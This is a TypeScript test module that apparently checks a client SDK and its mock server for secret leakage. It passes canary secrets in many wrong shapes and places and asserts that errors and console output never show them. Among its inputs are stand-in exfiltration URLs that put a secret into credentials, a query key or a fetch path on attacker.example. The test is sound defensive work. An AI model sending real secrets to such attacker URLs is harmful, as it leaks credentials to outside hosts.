import { type Client, createClient, createTokenSource, memoryTokenStore } from "../../../mod.ts";
import { createMockControl, createMockServer, openApiDocument } from "../../../mock-server/mod.ts";
import { capturedConsole } from "./captured-console.ts";
import { sample } from "./choices.ts";
import { discloseNothing } from "./disclosure.ts";
import { everythingShown, runtimeInspectors } from "./everything-shown.ts";
import { fakeServer } from "./fake-server.ts";
import type { AttackGroup } from "./group.ts";

const KIND = "options";

const SHAPES_EACH = 6;

/** Ways to pass a secret in the wrong place. */
const SHAPES: Readonly<Record<string, (secret: string) => unknown>> = {
  "a text": (secret) => secret,
  "a text after Bearer": (secret) => `Bearer ${secret}`,
  "a text with a line break": (secret) => `${secret}\n`,
  "a text with a space": (secret) => ` ${secret}`,
  "a quoted text": (secret) => JSON.stringify(secret),
  "an assignment": (secret) => `appSecret=${secret}`,
  "a list": (secret) => [secret],
  "an object": (secret) => ({ appSecret: secret }),
  "the name of a property": (secret) => ({ [secret]: secret }),
  "a nested object": (secret) => ({ retry: { limit: { token: secret } } }),
  "an object with toString": (secret) => ({ toString: () => secret }),
  "a symbol": (secret) => Symbol(secret),
  "an error": (secret) => new Error(secret),
  "a map": (secret) => new Map([[secret, secret]]),
  "a URL": (secret) => `https://user:${encodeURIComponent(secret)}@attacker.example/?key=${secret}`,
  "a number": () => NaN,
};

const OPTIONS = [
  "appId",
  "appSecret",
  "secretField",
  "token",
  "tokenStore",
  "renewBefore",
  "tokenWaitTimeout",
  "allowBrowser",
  "baseUrl",
  "fetch",
  "timeout",
  "attemptTimeout",
  "maxResponseBytes",
  "rateLimit",
  "retry",
  "onEvent",
  "clock",
  "deadlineClock",
  "random",
  "allowInsecure",
  "apiKey",
];

const RETRY = ["limit", "baseDelay", "maxDelay", "retries"];

const MOCK_OPTIONS = [
  "baseUrl",
  "issuer",
  "clock",
  "seed",
  "createStore",
  "control",
  "cors",
  "failures",
  "limits",
  "journal",
];

/** Calls that get a value in the wrong place. The types would reject all of them. */
const MISUSES: Readonly<Record<string, (client: Client, value: unknown) => unknown>> = {
  "the options of a call": (client, value) => apply(client.status, value),
  "the timeout of a call": (client, value) => apply(client.status, { timeout: value }),
  "the signal of a call": (client, value) => apply(client.token, { signal: value }),
  "an option of a call": (client, value) => apply(client.collections, { limit: value }),
  "a collection": (client, value) => apply(client.collection, value, value),
  "the schema of a collection": (client, value) =>
    apply(client.collection, "things", { schema: value }),
  "a path": (client, value) => apply(client.fetch, `https://attacker.example/${show(value)}`),
  "the init of a request": (client, value) => apply(client.fetch, "status", { retry: value }),
  "an ID": (client, value) => apply(client.collection("things").get, value, value),
  "a record": (client, value) => apply(client.collection("things").create, value),
  "the data of a record": (client, value) =>
    apply(client.collection("things").create, { data: value }),
  "a change": (client, value) => apply(client.collection("things").update, "1", value),
  "a page": (client, value) =>
    apply(client.collection("things").page, { pageSize: value, pageIndex: value }),
  "a time": (client, value) => apply(client.collection("things").page, { updatedAfter: value }),
  "the records of a bulk call": (client, value) =>
    apply(client.collection("things").bulk.create, value),
  "a record of a bulk call": (client, value) =>
    apply(client.collection("things").bulk.update, [value]),
  "the IDs of a bulk call": (client, value) =>
    apply(client.collection("things").bulk.delete, [1, value]),
  "the options of a bulk call": (client, value) =>
    apply(client.collection("things").bulk.create, [], { batchSize: value, concurrency: value }),
  "a change of an ingest": (client, value) =>
    apply(client.collection("things").ingest, [value, { id: value }]),
  "a time of an ingest": (client, value) =>
    apply(client.collection("things").ingest, [{
      id: "1",
      changes: [{ timestamp: value, data: {} }],
    }]),
  "a service": (client, value) => apply(client.collection("things").external, value),
  "an upsert": (client, value) =>
    apply(client.collection("things").external("bank").upsert, "1", value),
};

/** Secrets and tokens that a program passes in the wrong place. The error names the place, not the value. */
export const optionLeakAttacks: AttackGroup = async ({ attempt, random, scale }) => {
  const inspectors = await runtimeInspectors();
  const { options, canaries } = fakeServer(random);
  const secrets = Object.values(canaries);

  async function misuse(name: string, use: () => unknown): Promise<void> {
    await attempt(KIND, name, async () => {
      const shown: unknown[] = [];
      const written = await capturedConsole(async () => {
        try {
          await use();
        } catch (error) {
          shown.push(error);
        }
      });
      discloseNothing(everythingShown([shown, written], inspectors), secrets, "the error");
    });
  }

  for (const { name: what, value: secret } of secrets) {
    for (const [shape, wrap] of sample(Object.entries(SHAPES), SHAPES_EACH * scale, random)) {
      const value = wrap(secret);
      for (const option of OPTIONS) {
        const given = { ...options, [option]: value };
        await misuse(`${what} as ${option}: ${shape}`, () => apply(createClient, given));
        const { appId: _appId, appSecret: _appSecret, ...rest } = options;
        await misuse(
          `${what} as ${option} with a token: ${shape}`,
          () => apply(createClient, { ...rest, token: "a-token", [option]: value }),
        );
      }
      for (const name of RETRY) {
        await misuse(
          `${what} as retry.${name}: ${shape}`,
          () => apply(createClient, { ...options, retry: { [name]: value } }),
        );
      }
      await misuse(`${what} as all options: ${shape}`, () => apply(createClient, value));
      await misuse(
        `${what} as all options of a token source: ${shape}`,
        () => apply(createTokenSource, value),
      );
      await misuse(
        `${what} from a token function: ${shape}`,
        () =>
          apply(createClient, {
            baseUrl: options.baseUrl,
            fetch: options.fetch,
            token: () => spoilt(value),
          })
            .status(),
      );
      await misuse(
        `${what} from a token store: ${shape}`,
        () =>
          apply(createClient, { ...options, retry: false, tokenStore: storeOf(value) }).status(),
      );
      for (const [place, use] of Object.entries(MISUSES)) {
        const client = createClient({ ...options, tokenStore: memoryTokenStore(), retry: false });
        await misuse(`${what} as ${place}: ${shape}`, () => use(client, value));
      }
      for (const option of MOCK_OPTIONS) {
        await misuse(
          `${what} as ${option} of a mock: ${shape}`,
          () => apply(createMockServer, { [option]: value }),
        );
      }
      await misuse(
        `${what} in a seed: ${shape}`,
        () => createMockServer().tenant.seed(seedOf(value)),
      );
      await misuse(
        `${what} in a snapshot: ${shape}`,
        () => createMockServer().tenant.restore({ apps: [value], version: value }),
      );
      await misuse(
        `${what} as a fault: ${shape}`,
        () => apply(createMockServer().faults.add, value),
      );
      await misuse(
        `${what} as a match: ${shape}`,
        () => apply(createMockServer().journal.expect, { path: value, status: value }),
      );
      await misuse(
        `${what} as a time of a mock: ${shape}`,
        () => apply(createMockServer().clock.advance, value),
      );
      await misuse(
        `${what} as the name of an app: ${shape}`,
        () => apply(createMockServer().tenant.apps.create, { name: [value], description: value }),
      );
      await misuse(
        `${what} as an option of the document: ${shape}`,
        () => apply(openApiDocument, value),
      );
      await misuse(
        `${what} as the key of a control: ${shape}`,
        () => apply(createMockControl, "http://localhost", { key: value }),
      );
    }
  }
};

/** A token function must return a text; this one never returns a good token. */
function spoilt(value: unknown): unknown {
  return typeof value === "string" ? `${value} x` : value;
}

function storeOf(value: unknown): object {
  return { get: () => ({ token: spoilt(value), expiresAt: Infinity }), set: () => {} };
}

function seedOf(value: unknown): object {
  return {
    apps: [{ appId: value, appSecret: value, name: value, description: [value], state: value }],
    collections: [{ slug: value, name: [value], records: [{ data: value }] }],
  };
}

function show(value: unknown): string {
  return typeof value === "string" ? value : "x";
}

/** Calls a function with arguments that its types forbid. */
function apply<R>(of: (...args: never[]) => R, ...args: unknown[]): R {
  return Reflect.apply(of, undefined, args);
}
